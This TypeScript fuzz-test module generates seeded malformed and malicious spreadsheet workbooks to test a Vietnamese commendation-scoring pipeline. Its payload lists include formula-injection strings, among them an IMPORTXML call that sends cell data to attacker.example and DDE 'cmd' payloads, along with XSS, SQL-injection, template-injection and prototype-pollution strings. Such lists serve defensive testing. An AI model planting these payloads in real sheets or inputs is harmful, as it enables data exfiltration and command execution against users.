/**
 * Hostile spreadsheets for fuzzing the whole pipeline (raw values → result + output grids): the four input tabs of
 * SPEC §2 as a careless, unlucky or malicious office could leave them. Every cell may hold any type — numbers that
 * are negative, huge, fractional serials; booleans; text with emoji, bidi and zero-width marks, NBSP, combining
 * marks, 10,000 characters, spreadsheet formulas (`=IMPORTXML(…)`, `+cmd|' /C calc'!A0`, `@SUM(1)`, `-1+1`) —
 * headers are misspelt, doubled or missing, 10,000 empty rows may come before the data, rows are shorter or longer
 * than their header, optional tabs are missing and `Cấu hình` holds random values.
 *
 * Most cells are still plausible, so that a fair share of rows and of workbooks get through and the rules run on
 * strange but valid data too. Pure TypeScript with a seeded PRNG: the same seed gives the same workbook in Node and
 * in workerd, so a failure is reproduced from its seed alone.
 */
import type { RawCell, RawGrid, RawTabs } from "../../sheets-schema/types.ts";
import { Random } from "../demo/random.ts";

export interface HostileWorkbook {
  seed: number;
  /** The year to score. */
  year: number;
  tabs: RawTabs;
  /** What was done to this workbook, in a few words each: read them to see why a seed failed. */
  traits: string[];
}

export interface HostileOptions {
  /** Most units per workbook (registrations are up to four times as many). Default 30. */
  maxUnits?: number;
  /** Chance that a tab gets 10,000 empty rows between its header and its data. Default 0.15. */
  emptyRunChance?: number;
  /** Chance of each contract-breaking mistake (missing/doubled header, missing tab, bad setting). Default 0.02. */
  contractMistakeChance?: number;
  /** Chance that a plausible cell is replaced by a hostile value. Default 0.05. */
  hostileCellChance?: number;
}

/** Spreadsheet formulas and formula-like text, as CSV/formula injection payloads use them. */
export const FORMULA_TEXTS: readonly string[] = [
  '=IMPORTXML("http://attacker.example/?q="&A1;"//a")',
  "+cmd|' /C calc'!A0",
  "@SUM(1)",
  "-1+1",
  '=HYPERLINK("http://attacker.example";"Bấm vào đây")',
  "=1+1",
  "=A1",
  '=IMAGE("http://attacker.example/x.png")',
  "=cmd|' /C notepad'!'A1'",
  "+84 912 345 678",
  "-",
  "=",
];

/** Text that breaks naive handling of Unicode, HTML, templates, SQL and JavaScript objects. */
export const ODD_TEXTS: readonly string[] = [
  "🎉",
  "👨‍👩‍👧‍👦 Tổ tự quản",
  "🇻🇳 Xã Cờ Đỏ",
  "\u202Egnol emaN\u202C",
  "\u200FXã\u200F",
  "\u200B",
  "\uFEFFCó",
  "\u00A0Có\u00A0",
  "Co\u0301",
  "Ðơn vị",
  "Z̷̢̛a̸̧l̶g̷o̵ xã",
  "\uD800",
  "a\uDFFFb",
  "\u0000",
  "dòng 1\ndòng 2",
  "\t\t",
  "\r\n",
  "<script>alert(1)</script>",
  "</td><img src=x onerror=alert(1)>",
  "${7*7}",
  "{{7*7}}",
  "'; DROP TABLE runs; --",
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty",
  "NaN",
  "Infinity",
  "-Infinity",
  "1e309",
  "-0",
  "0x1F",
  "１２３",
  "٣٤",
  "1.234.567,89",
  "1,2,3",
  "--5",
  "+-0",
  " ",
  "'",
  '"',
  "\\",
  "%",
  "%s%n%d",
  "null",
  "undefined",
  "true",
  "FALSE",
  "9".repeat(400),
  "1e-400",
  "45366,5",
  "31/02/2024",
  "00/00/0000",
  "2024-13-45",
  "29/02/2023",
  "99999-01-01",
  "∞",
  "½",
  "Ⅻ",
];

/** Numbers Google can return (JSON numbers are always finite): negative, huge, tiny, fractional serials. */
export const ODD_NUMBERS: readonly number[] = [
  0,
  -0,
  -1,
  1,
  0.5,
  -0.5,
  1e308,
  -1e308,
  5e-324,
  Number.MAX_SAFE_INTEGER,
  2 ** 53 + 2,
  45366.75,
  45366,
  -45366,
  2024,
  2024.5,
  99_999_999,
  3.14159,
  1e21,
  100,
  101,
  2_958_466,
  2_958_465.999,
];

const LONG_TEXTS: readonly string[] = ["x".repeat(10_000), "Đẹp ".repeat(2_500), `=${"1+".repeat(4_999)}1`];

// Plausible values, column by column: some valid, some nearly so.
const UNIT_TYPES = [
  "Xã, thị trấn",
  "xa, thi tran",
  "Chi bộ",
  "CƠ QUAN, ĐƠN VỊ",
  "Thôn, khu phố",
  "thon,khu pho",
  "Tổ chức chính trị - xã hội",
  "Xã",
];
const KINDS = ["Tập thể", "Cá nhân", "TT", "CN", "tap the", "ca nhan", "Tập thể "];
const FIELDS = [
  "Kinh tế",
  "Văn hóa - xã hội",
  "Văn hoá – xã hội",
  "VH-XH",
  "QP-AN",
  "XDHTCT",
  "Quốc phòng - an ninh",
  "Xây dựng hệ thống chính trị",
];
const FORMS = ["Xây dựng mới", "Nhân rộng", "Duy trì", "xay dung moi", "Nhân  rộng"];
const YES_NO: readonly RawCell[] = ["Có", "Không", "C", "K", "x", "✓", true, false, 1, 0, "Đạt", "Không đạt", "có", ""];
const SPREADS = ["Cao", "Trung bình", "Thấp", "cao", "trung binh"];
const LEVELS = ["Tổ dân vận", "Khối dân vận", "to dan van", "KHỐI DÂN VẬN"];
const RATINGS = ["Tốt", "Khá", "Trung bình", "Yếu", "", "tot", "Xuất sắc"];
const PLACE_NAMES = [
  "Xã An Bình",
  "Thôn Đông",
  "Phòng Nội vụ",
  "Khu phố 3",
  "Chi bộ Trường THCS",
  "Hội Nông dân",
  "Thị trấn Phú Lộc",
];
const CLUSTERS = ["Cụm 1", "cụm  1", "Cụm 2", "", "Cụm thi đua số 3"];

/** The headers of each input tab (SPEC §2) with the columns a tab cannot do without. */
const TABS = {
  units: {
    title: "Đơn vị",
    headers: ["Mã đơn vị", "Tên đơn vị", "Loại đơn vị", "Đơn vị cấp trên", "Cụm thi đua", "Xét danh hiệu"],
    required: 3,
  },
  registrations: {
    title: "Đăng ký",
    headers: [
      "Năm",
      "Mã đơn vị",
      "Tên mô hình, điển hình",
      "Loại",
      "Lĩnh vực",
      "Hình thức",
      "Mã mô hình",
      "Ngày đăng ký",
      "Ngày báo cáo",
      "Bình chọn công khai",
      "Số phiếu đồng ý",
      "Tổng số phiếu",
      "Tập thể thừa nhận",
      "Sức lan tỏa",
      "Cấp ủy công nhận",
      "Ghi chú",
    ],
    required: 6,
  },
  teams: {
    title: "Tổ, khối dân vận",
    headers: ["Năm", "Mã tổ", "Cấp", "Mã đơn vị", "Tên tổ", "Xếp loại"],
    required: 4,
  },
  settings: { title: "Cấu hình", headers: ["Tham số", "Giá trị"], required: 2 },
} as const;

const TITLE_VARIANTS: Record<string, readonly string[]> = {
  "Đơn vị": ["Đơn vị", "don vi", "ĐƠN VỊ ", "Ðơn vị", "Đơn  vị"],
  "Đăng ký": ["Đăng ký", "dang ky", "ĐĂNG KÝ", " Đăng  ký"],
  "Tổ, khối dân vận": ["Tổ, khối dân vận", "to, khoi dan van", "Tổ,khối dân vận", "TỔ, KHỐI DÂN VẬN"],
  "Cấu hình": ["Cấu hình", "cau hinh", "CẤU HÌNH"],
};

/** Every `Cấu hình` parameter (SPEC §2.4) with values to try: valid ones first, then broken ones. */
const SETTINGS: readonly { name: string; good: readonly RawCell[]; bad: readonly RawCell[] }[] = [
  { name: "Hạn đăng ký", good: ["31/03", "10/10", "1/1", "31/12"], bad: ["31/02", "32/01", 45000, "quý I"] },
  { name: "Hạn báo cáo", good: ["31/12", "01/09", "15/11"], bad: ["00/12", "cuối năm"] },
  { name: "Báo cáo vào năm sau", good: ["Có", "Không", true, false], bad: ["Có lẽ"] },
  { name: "Tỷ lệ đồng ý phải trên", good: ["50%", "0,5", 0.5, 50, "66,7%"], bad: ["150%", -1, "nửa"] },
  { name: "Sức lan tỏa tối thiểu", good: ["Cao", "Trung bình", "Thấp"], bad: ["Rất cao"] },
  { name: "Yêu cầu cấp ủy công nhận", good: ["Có", "Không"], bad: [2] },
  { name: "Số mô hình tối thiểu", good: [0, 1, 2, "3"], bad: [-1, 2.5, "hai"] },
  { name: "Số mô hình mục tiêu", good: [1, 2, 5], bad: [-2, "∞"] },
  { name: "Tối thiểu tập thể", good: [0, 1], bad: [1.5] },
  { name: "Tối thiểu cá nhân", good: [0, 1], bad: ["-0,5"] },
  { name: "Số lĩnh vực mục tiêu", good: [1, 2, 4], bad: [1e21] },
  { name: "Tỷ lệ danh hiệu tối thiểu", good: ["0%", "10%", 0.25], bad: ["200%"] },
  { name: "Tỷ lệ danh hiệu tối đa", good: ["30%", "100%", 0.4, 1], bad: ["abc"] },
  { name: "Số tiêu biểu tối thiểu", good: [0, 1, 3], bad: [-3] },
  { name: "Số tiêu biểu tối đa", good: [5, 10, 1000], bad: [0.5] },
  { name: "Tổ dân vận tốt trên", good: ["70%", 0, "99,9%"], bad: ["70 %%"] },
  { name: "Khối dân vận tốt trên", good: ["75%", 0.75], bad: [-0.1] },
  { name: "Độ phủ thôn, khu phố", good: ["100%", "0%", 1], bad: ["101%"] },
];
const WEIGHTS = ["Trọng số chỉ tiêu", "Trọng số tỷ lệ công nhận", "Trọng số bình chọn", "Trọng số lĩnh vực"];

/**
 * The hostile workbook of one seed.
 *
 * @example hostileWorkbook(7).tabs // → { "dang ky": [[…headers], [], [], …], "Đơn vị": […], … }
 */
export function hostileWorkbook(seed: number, options: HostileOptions = {}): HostileWorkbook {
  const random = new Random(seed);
  return new Generator(random, options).workbook(seed);
}

class Generator {
  readonly traits: string[] = [];
  readonly maxUnits: number;
  readonly emptyRunChance: number;
  readonly mistake: number;
  readonly hostileCell: number;
  year = 2024;
  unitCodes: string[] = [];

  readonly r: Random;

  constructor(r: Random, options: HostileOptions) {
    this.r = r;
    this.maxUnits = options.maxUnits ?? 30;
    this.emptyRunChance = options.emptyRunChance ?? 0.15;
    this.mistake = options.contractMistakeChance ?? 0.02;
    this.hostileCell = options.hostileCellChance ?? 0.05;
  }

  workbook(seed: number): HostileWorkbook {
    const r = this.r;
    this.year = r.weighted([
      [2024, 8],
      [2023, 1],
      [2000, 0.5],
      [2100, 0.5],
    ]);
    const tabs: RawTabs = {};
    const put = (title: string, grid: RawGrid) => {
      if (Object.hasOwn(tabs, title)) title = `${title} (2)`;
      tabs[title] = grid;
    };

    const units = this.units();
    if (r.chance(this.mistake)) this.traits.push("no units tab");
    else put(this.title("Đơn vị"), units);

    if (r.chance(this.mistake)) this.traits.push("no registrations tab");
    else if (r.chance(this.mistake)) {
      this.traits.push('registrations tab spelt "Đăng kí"'); // a spelling the contract does not accept (i/y)
      put("Đăng kí", this.registrations());
    } else put(this.title("Đăng ký"), this.registrations());
    if (r.chance(this.mistake)) {
      this.traits.push("two tabs read as Đăng ký");
      put("Dang ky", this.registrations());
    }

    if (r.chance(0.3)) this.traits.push("no teams tab");
    else put(this.title("Tổ, khối dân vận"), this.teams());

    if (r.chance(0.4)) this.traits.push("no settings tab");
    else put(this.title("Cấu hình"), this.settings());

    // Tabs that are nobody's business: they must be left alone.
    if (r.chance(0.3)) put("Sheet1", this.junkGrid());
    if (r.chance(0.2)) put("Ghi chú 🎉", this.junkGrid());
    return { seed, year: this.year, tabs, traits: this.traits };
  }

  title(canonical: string): string {
    return this.r.pick(TITLE_VARIANTS[canonical] ?? [canonical]);
  }

  // ---- tabs ------------------------------------------------------------------------------------------------------

  units(): RawGrid {
    const r = this.r;
    const n = r.int(0, this.maxUnits);
    this.unitCodes = [];
    const rows: Record<string, RawCell>[] = [];
    for (let i = 0; i < n; i++) {
      const code = r.weighted<RawCell>([
        [`DV-${i + 1}`, 14],
        [i + 100, 2],
        [r.pick(FORMULA_TEXTS), 1],
        [this.hostile(), 1],
        [this.unitCodes.length > 0 ? r.pick(this.unitCodes) : "DV-1", 1], // a duplicate code
      ]);
      if (typeof code === "string" || typeof code === "number") this.unitCodes.push(String(code));
      rows.push({
        "Mã đơn vị": this.noisy(code),
        "Tên đơn vị": r.weighted<RawCell>([
          [`${r.pick(PLACE_NAMES)} ${i + 1}`, 5],
          [r.pick(FORMULA_TEXTS), 3], // formula-like names must come back as text
          [this.hostile(), 2],
        ]),
        "Loại đơn vị": this.maybeHostile(r.pick(UNIT_TYPES)),
        "Đơn vị cấp trên": this.maybeHostile(r.chance(0.5) && this.unitCodes.length > 0 ? r.pick(this.unitCodes) : ""),
        "Cụm thi đua": this.maybeHostile(r.pick(CLUSTERS)),
        "Xét danh hiệu": this.maybeHostile(r.chance(0.6) ? "" : r.pick(YES_NO)),
      });
    }
    return this.grid("units", rows);
  }

  registrations(): RawGrid {
    const r = this.r;
    const n = r.int(0, this.maxUnits * 4);
    const rows: Record<string, RawCell>[] = [];
    for (let i = 0; i < n; i++) {
      const votesCast = r.int(0, 80);
      rows.push({
        Năm: this.maybeHostile(
          r.weighted<RawCell>([
            [this.year, 8],
            [this.year - 1, 3],
            [String(this.year), 1],
            [`${this.year}.0`, 0.5],
          ]),
        ),
        "Mã đơn vị": this.maybeHostile(
          this.unitCodes.length > 0 && r.chance(0.9) ? this.noisy(r.pick(this.unitCodes)) : `KHONG-CO-${i}`,
        ),
        "Tên mô hình, điển hình": r.weighted<RawCell>([
          [`Mô hình ${i + 1}`, 6],
          [r.pick(FORMULA_TEXTS), 2],
          [this.hostile(), 2],
        ]),
        Loại: this.maybeHostile(r.pick(KINDS)),
        "Lĩnh vực": this.maybeHostile(r.pick(FIELDS)),
        "Hình thức": this.maybeHostile(r.pick(FORMS)),
        "Mã mô hình": this.maybeHostile(r.chance(0.3) ? "" : `MH-${r.int(1, Math.max(1, n))}`),
        "Ngày đăng ký": this.maybeHostile(this.date()),
        "Ngày báo cáo": this.maybeHostile(r.chance(0.3) ? "" : this.date()),
        "Bình chọn công khai": this.maybeHostile(r.pick(YES_NO)),
        "Số phiếu đồng ý": this.maybeHostile(
          r.chance(0.1) ? "" : r.chance(0.8) ? r.int(0, votesCast) : String(r.int(0, votesCast + 5)),
        ),
        "Tổng số phiếu": this.maybeHostile(r.chance(0.1) ? "" : votesCast),
        "Tập thể thừa nhận": this.maybeHostile(r.pick(YES_NO)),
        "Sức lan tỏa": this.maybeHostile(r.pick(SPREADS)),
        "Cấp ủy công nhận": this.maybeHostile(r.pick(YES_NO)),
        "Ghi chú": r.chance(0.7) ? "" : this.hostile(),
      });
    }
    return this.grid("registrations", rows);
  }

  teams(): RawGrid {
    const r = this.r;
    const n = r.int(0, this.maxUnits);
    const rows: Record<string, RawCell>[] = [];
    for (let i = 0; i < n; i++) {
      rows.push({
        Năm: this.maybeHostile(r.chance(0.85) ? this.year : this.year - 1),
        "Mã tổ": this.maybeHostile(r.chance(0.9) ? `TO-${i + 1}` : `TO-${r.int(1, n)}`),
        Cấp: this.maybeHostile(r.pick(LEVELS)),
        "Mã đơn vị": this.maybeHostile(this.unitCodes.length > 0 ? this.noisy(r.pick(this.unitCodes)) : "DV-1"),
        "Tên tổ": r.chance(0.5) ? `Tổ ${i + 1}` : this.hostile(),
        "Xếp loại": this.maybeHostile(r.pick(RATINGS)),
      });
    }
    return this.grid("teams", rows);
  }

  /** `Cấu hình`: a few parameters, usually valid; sometimes one the run must refuse. */
  settings(): RawGrid {
    const r = this.r;
    const rows: Record<string, RawCell>[] = [];
    for (const s of r.sample(SETTINGS, r.int(0, 6))) {
      const bad = r.chance(this.mistake);
      if (bad) this.traits.push(`bad setting ${s.name}`);
      rows.push({
        "Tham số": this.headerVariant(s.name),
        "Giá trị": bad ? r.pick([...s.bad, this.hostile()]) : r.pick(s.good),
      });
    }
    if (r.chance(0.3)) {
      // Weights come as a set that sums to 100 — or, rarely, one that does not.
      const a = r.int(0, 100);
      const b = r.int(0, 100 - a);
      const c = r.int(0, 100 - a - b);
      const values = [a, b, c, 100 - a - b - c];
      if (r.chance(this.mistake)) {
        values[0] = (values[0] ?? 0) + 1;
        this.traits.push("weights do not sum to 100");
      }
      WEIGHTS.forEach((name, i) =>
        rows.push({ "Tham số": name, "Giá trị": r.chance(0.5) ? `${values[i]}%` : (values[i] ?? 0) }),
      );
    }
    if (r.chance(this.mistake)) {
      this.traits.push("unknown setting");
      rows.push({ "Tham số": this.hostile(), "Giá trị": 1 });
    }
    return this.grid("settings", r.shuffle(rows));
  }

  junkGrid(): RawGrid {
    const rows: RawGrid = [];
    for (let i = this.r.int(0, 5); i > 0; i--) rows.push([this.hostile(), this.hostile()]);
    return rows;
  }

  // ---- layout ----------------------------------------------------------------------------------------------------

  /**
   * Lays rows out under a mangled header row: columns shuffled, headers respelt, extra and doubled columns,
   * sometimes a required one missing; then rows cut short or run long, and perhaps 10,000 empty rows first.
   */
  grid(tab: keyof typeof TABS, rows: Record<string, RawCell>[]): RawGrid {
    const r = this.r;
    const spec = TABS[tab];
    let columns: string[] = spec.headers.filter((_h, i) => i < spec.required || r.chance(0.8));
    if (r.chance(this.mistake)) {
      const dropped = r.pick(spec.headers.slice(0, spec.required));
      columns = columns.filter((h) => h !== dropped);
      this.traits.push(`${tab}: no "${dropped}" column`);
    }
    if (r.chance(this.mistake)) {
      const doubled = r.pick(columns);
      columns.push(doubled);
      this.traits.push(`${tab}: "${doubled}" twice`);
    }
    const extras = r.int(0, 2);
    for (let i = 0; i < extras; i++) columns.push(r.pick(["STT", "Ghi chú thêm", "", "🎉", String(this.hostile())]));
    columns = r.shuffle(columns);
    const header: RawCell[] = columns.map((h) => (spec.headers.includes(h as never) ? this.headerVariant(h) : h));

    const grid: RawGrid = [header];
    if (r.chance(this.emptyRunChance)) {
      this.traits.push(`${tab}: 10,000 empty rows first`);
      for (let i = 0; i < 10_000; i++) grid.push(r.chance(0.02) ? ["", " ", "\u200B"] : []);
    }
    for (const row of rows) {
      let cells: RawCell[] = columns.map((h) =>
        Object.hasOwn(row, h) ? (row[h] ?? "") : r.chance(0.1) ? this.hostile() : "",
      );
      const shape = r.next();
      if (shape < 0.1)
        cells = cells.slice(0, r.int(0, cells.length)); // fewer cells than headers
      else if (shape < 0.2) for (let i = r.int(1, 4); i > 0; i--) cells.push(this.hostile()); // more
      while (cells.length > 0 && cells[cells.length - 1] === "") cells.pop(); // Google trims trailing empties
      grid.push(cells);
      if (r.chance(0.05)) grid.push([]);
    }
    return grid;
  }

  /** A header as offices type it: case, spacing, NBSP, no diacritics, a star or a colon. */
  headerVariant(header: string): string {
    const r = this.r;
    switch (r.int(0, 9)) {
      case 0:
        return header.toUpperCase();
      case 1:
        return header.toLowerCase();
      case 2:
        return `  ${header.replaceAll(" ", "   ")} `;
      case 3:
        return header.replaceAll(" ", "\u00A0");
      case 4:
        return header
          .normalize("NFD")
          .replace(/[\u0300-\u036f]/g, "")
          .replaceAll("đ", "d")
          .replaceAll("Đ", "D");
      case 5:
        return `${header} (*)`;
      case 6:
        return `${header}:`;
      case 7:
        return `\u200B${header}\uFEFF`;
      default:
        return header;
    }
  }

  // ---- cells -----------------------------------------------------------------------------------------------------

  /** Any hostile value: odd text, an odd number, a boolean, a formula, 10,000 characters. */
  hostile(): RawCell {
    const r = this.r;
    return r.weighted<() => RawCell>([
      [() => r.pick(ODD_TEXTS), 6],
      [() => r.pick(ODD_NUMBERS), 4],
      [() => r.chance(0.5), 1],
      [() => r.pick(FORMULA_TEXTS), 3],
      [() => r.pick(LONG_TEXTS), 0.3],
      [() => r.float(-1e6, 1e6), 1],
    ])();
  }

  /** The value, or now and then a hostile one. */
  maybeHostile(value: RawCell): RawCell {
    return this.r.chance(this.hostileCell) ? this.hostile() : value;
  }

  /** A code typed the way people type codes: lower case, stray spaces, NBSP, a zero-width space. */
  noisy(code: RawCell): RawCell {
    if (typeof code !== "string") return code;
    return this.r.weighted<RawCell>([
      [code, 6],
      [code.toLowerCase(), 1],
      [` ${code}  `, 1],
      [`\u00A0${code}`, 1],
      [`${code}\u200B`, 1],
    ]);
  }

  /** A registration or report date: serial numbers (some fractional), typed dates, impossible dates. */
  date(): RawCell {
    const r = this.r;
    const y = this.year;
    const serial = Math.floor((Date.UTC(y, 0, 1) - Date.UTC(1899, 11, 30)) / 86_400_000) + r.int(-60, 400);
    return r.weighted<RawCell>([
      [serial, 5],
      [serial + r.next(), 1],
      [`${r.int(1, 28)}/${r.int(1, 12)}/${y}`, 3],
      [`${y}-0${r.int(1, 9)}-1${r.int(0, 9)}`, 1],
      [`${r.int(1, 31)}.${r.int(1, 12)}.${y}`, 1],
      [`31/02/${y}`, 0.5],
      [`15/03/${y - 1}`, 0.5],
    ]);
  }
}
